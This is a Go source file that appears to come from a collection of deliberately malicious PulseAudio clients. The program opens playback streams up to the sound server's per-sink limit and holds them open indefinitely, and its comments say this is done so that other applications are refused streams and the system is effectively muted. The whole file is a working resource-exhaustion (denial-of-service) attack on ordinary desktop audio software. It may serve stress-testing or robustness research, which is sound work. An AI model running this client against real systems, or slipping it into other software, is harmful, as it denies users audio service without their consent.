// Exhaust the sound server's open-stream capacity.
//
// The server enforces a hard limit of 256 open playback streams per sink.
// This client claims the whole limit on the default sink and then holds
// the streams open forever, so honest applications are refused new
// streams and the system is effectively force-muted.
package main

import (
	"flag"
	"fmt"
	"log/slog"
	"os"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/a-darwish/malicious-pulseaudio-clients/internal/client"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/config"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/eventloop"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/metrics"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/protocol"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/source"
)

const appName = "sndstress-exhaust-streams"

func main() {
	configPath := flag.String("config", "", "Path to optional configuration file")
	flag.Parse()

	cfg := config.Default()
	if *configPath != "" {
		loaded, err := config.Load(*configPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "Failed to load configuration: %v\n", err)
			os.Exit(1)
		}
		cfg = loaded
	}
	if cfg.Server.ApplicationName == config.Default().Server.ApplicationName {
		cfg.Server.ApplicationName = appName
	}

	logger := config.NewLogger(cfg.Logging)
	logger.Info("Client starting",
		slog.String("client", appName),
		slog.Int("stream_count", cfg.Stream.Count),
	)

	appMetrics := metrics.New(prometheus.DefaultRegisterer)
	loop := eventloop.New()
	conn := client.New(logger, loop, appMetrics, cfg.Server)

	spec := source.SampleSpec{
		Format:   source.FormatS16LE,
		Rate:     cfg.Audio.SampleRate,
		Channels: cfg.Audio.Channels,
	}

	conn.OnReady = func(c *client.Conn) {
		for i := 0; i < cfg.Stream.Count; i++ {
			stream, err := c.NewStream(cfg.Stream.Name, spec)
			if err != nil {
				c.Fail(fmt.Errorf("stream creation failed: %w", err))
				return
			}

			// A sink-full rejection is the goal here, not an error:
			// every stream created before it keeps occupying server
			// capacity for as long as this process lives. Quitting
			// would release them, so the client keeps running.
			stream.OnFailed = func(s *client.Stream, e *protocol.ErrorPayload) {
				if e.Code == protocol.ErrCodeSinkFull {
					logger.Info("Sink capacity fully claimed",
						slog.Uint64("stream_id", uint64(s.ID())),
						slog.String("stream_name", s.Name()),
						slog.String("server_error", e.String()),
					)
					return
				}
				c.Fail(fmt.Errorf("playback stream %d error: %s", s.ID(), e))
			}
		}

		logger.Info("Requested streams up to the per-sink limit",
			slog.Int("count", cfg.Stream.Count),
		)
	}

	if err := conn.Connect(); err != nil {
		logger.Error("Could not connect to sound server", slog.String("error", err.Error()))
		os.Exit(1)
	}

	os.Exit(loop.Run())
}
